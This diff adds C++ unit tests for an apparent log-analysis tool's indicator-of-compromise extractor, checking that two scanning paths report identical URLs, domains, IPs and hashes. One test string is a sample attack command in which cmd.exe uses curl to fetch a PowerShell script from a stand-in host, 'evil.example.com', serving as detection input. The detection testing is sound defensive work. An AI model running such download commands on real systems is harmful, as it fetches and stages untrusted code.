@@ -1,0 +1,105 @@
+// IocOptions::paths = false in plain mode finds its triggers without
+// Hyperscan (IocExtractor::ScanPlainNetwork); it must report exactly the
+// other indicators (network, hash) that the Hyperscan scan with paths reports:
+// the same types, values, offsets and classes, in the same order. Checked on
+// lines written for the edges of the byte scan (16-byte chunks, hex runs
+// around 32 digits, IPv6 colons) and on generated lines.
+#include <gtest/gtest.h>
+
+#include <random>
+#include <string>
+#include <vector>
+
+#include "detectors/ioc/ioc_extractor.h"
+
+namespace loghunt {
+namespace {
+
+std::vector<std::string> Network(std::string_view text, bool paths, bool defanged = false) {
+  IocOptions options;
+  options.defanged = defanged;
+  options.paths = paths;
+  IocExtractor extractor(IocPatterns::Default(), options);
+  Arena arena;
+  std::vector<Ioc> iocs;
+  extractor.Extract(text, arena, &iocs);
+  std::vector<std::string> out;
+  for (const Ioc& i : iocs) {
+    if (i.type == IocType::kWindowsPath || i.type == IocType::kLinuxPath) continue;
+    out.push_back(std::string(IocTypeName(i.type)) + " " + std::string(i.value) + " @" +
+                  std::to_string(i.offset) + " " + std::string(IpClassName(i.ip_class)) +
+                  (i.defanged ? " defanged" : ""));
+  }
+  return out;
+}
+
+void ExpectSameAsHyperscan(std::string_view text) {
+  EXPECT_EQ(Network(text, false), Network(text, true)) << "text: " << text;
+}
+
+TEST(IocNetworkScan, FindsEachTypeWithoutPaths) {
+  const std::string text =
+      "C:\\Windows\\cmd.exe /c curl http://evil.example.com/x.ps1 -o C:\\t\\a.ps1 && ping "
+      "10.1.2.3 && nslookup update.microsoft.com 2001:db8::7 "
+      "d41d8cd98f00b204e9800998ecf8427e";
+  const std::vector<std::string> expected = {"url http://evil.example.com/x.ps1 @27 ",
+                                             "dns evil.example.com @34 ",
+                                             "ipv4 10.1.2.3 @79 private",
+                                             "dns update.microsoft.com @100 ",
+                                             "ipv6 2001:db8::7 @121 reserved",
+                                             "md5 d41d8cd98f00b204e9800998ecf8427e @133 "};
+  EXPECT_EQ(Network(text, false), expected);
+  ExpectSameAsHyperscan(text);
+}
+
+TEST(IocNetworkScan, HexRunsAroundThirtyTwoDigitsAtEveryChunkOffset) {
+  for (size_t pad = 0; pad < 40; ++pad) {
+    for (size_t digits : {31, 32, 33, 40, 47, 48, 63, 64, 65, 128, 129}) {
+      std::string hex;
+      for (size_t i = 0; i < digits; ++i) hex += "0123456789abcdefABCDEF"[i % 22];
+      ExpectSameAsHyperscan(std::string(pad, 'x') + hex);
+      ExpectSameAsHyperscan(std::string(pad, ' ') + hex + " tail");
+      ExpectSameAsHyperscan(std::string(pad, 'g') + hex + "." + hex + "\xc3\xa9" + hex);
+    }
+  }
+}
+
+TEST(IocNetworkScan, ColonsDotsAndSchemesAtEveryChunkOffset) {
+  const char* kLines[] = {
+      "fe80::1%eth0 and ::1 and 2001:db8:0:0:1:0:0:1 and a:b:c and 1:12345:",
+      "ip6:2001:db8::1 ::ffff:10.0.0.1 12:34:56:78:9a:bc abcd::",
+      "http://10.0.0.1:8080/x https://[2001:db8::1]/a ftp://a.b.com ldap://x",
+      "evil.com/a.php a.b. .a.b a..b -.x x.- 1.2.3.4.5 300.1.1.1 1.2.3.4/24 192.168.1.1/admin",
+      "user@mail.example.org first.last@example.co.uk x@y",
+      "\xe2\x80\x8b"
+      "example.com\xc2\xa0http://example.net/\xe3\x80\x80z",
+  };
+  for (const char* line : kLines) {
+    for (size_t pad = 0; pad < 17; ++pad) ExpectSameAsHyperscan(std::string(pad, 'a') + line);
+  }
+}
+
+TEST(IocNetworkScan, GeneratedLinesMatchTheHyperscanTriggers) {
+  std::mt19937 rng(7);
+  const std::string alphabet = "0123456789abcdefABCDEF.:/-_ \\@%gxzqCom\t[]\x80\xff";
+  const char* kWords[] = {"http://", "example.com", "10.0.0.1", "::",
+                          "fe80::",  ".exe",        "C:\\",     "d41d8cd98f00b204e9800998ecf8427e"};
+  for (int line = 0; line < 3000; ++line) {
+    std::string text;
+    const size_t len = rng() % 200;
+    while (text.size() < len) {
+      if (rng() % 6 == 0) {
+        text += kWords[rng() % std::size(kWords)];
+      } else {
+        text += alphabet[rng() % alphabet.size()];
+      }
+    }
+    ExpectSameAsHyperscan(text);
+    // Defanged mode keeps Hyperscan; without paths it only drops their triggers.
+    EXPECT_EQ(Network(text, false, true), Network(text, true, true)) << "text: " << text;
+    if (HasFailure()) return;
+  }
+}
+
+}  // namespace
+}  // namespace loghunt
